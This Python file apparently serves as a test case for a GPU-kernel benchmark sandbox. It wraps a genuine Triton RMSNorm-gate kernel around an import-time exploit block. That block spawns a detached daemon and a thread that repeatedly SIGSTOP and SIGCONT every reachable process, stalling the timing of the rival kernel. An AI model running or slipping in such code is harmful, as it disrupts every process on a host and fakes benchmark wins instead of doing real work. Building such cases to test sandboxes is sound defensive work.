"""GPU exploit: slow the incumbent down during the A B B A comparison. At import a setsid
double-forked daemon and a raw _thread send SIGSTOP then SIGCONT to every process they can
name, over and over, so whichever process times the incumbent stalls. Harmless when each
candidate runs in its own PID namespace under Landlock's signal scope: the comparison with the
identical honest kernel (its twin) must come out even, and no daemon outlives the verify.

gpu: harmless
"""

import torch
import triton
import triton.language as tl

# isort: split
# -- exploit
import _thread
import os
import signal
import time


def _stall_everyone() -> None:
    me = os.getpid()
    while True:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (me, 1):
                for sig in (signal.SIGSTOP, signal.SIGCONT):
                    try:
                        os.kill(int(name), sig)
                    except OSError:
                        pass
        for pid in range(2, 4096):
            try:
                os.kill(pid, signal.SIGSTOP)
                os.kill(pid, signal.SIGCONT)
            except OSError:
                pass
        time.sleep(0.001)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _stall_everyone()
    os._exit(0)
_thread.start_new_thread(_stall_everyone, ())
# -- end exploit


@triton.jit
def _kernel(x_ptr, g_ptr, w_ptr, out_ptr, dim, eps, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < dim
    x = tl.load(x_ptr + row * dim + cols, mask=mask, other=0.0).to(tl.float32)
    g = tl.load(g_ptr + row * dim + cols, mask=mask, other=0.0).to(tl.float32)
    w = tl.load(w_ptr + cols, mask=mask, other=0.0).to(tl.float32)
    rstd = 1.0 / tl.sqrt(tl.sum(x * x, axis=0) / dim + eps)
    y = x * rstd * w * (g * tl.sigmoid(g))
    tl.store(out_ptr + row * dim + cols, y.to(out_ptr.dtype.element_ty), mask=mask)


def rmsnorm_gate(x, gate, weight, eps=1e-5):
    out = torch.empty_like(x)
    dim = x.shape[-1]
    _kernel[(x.numel() // dim,)](x, gate, weight, out, dim, eps, BLOCK=triton.next_power_of_2(dim))
    return out
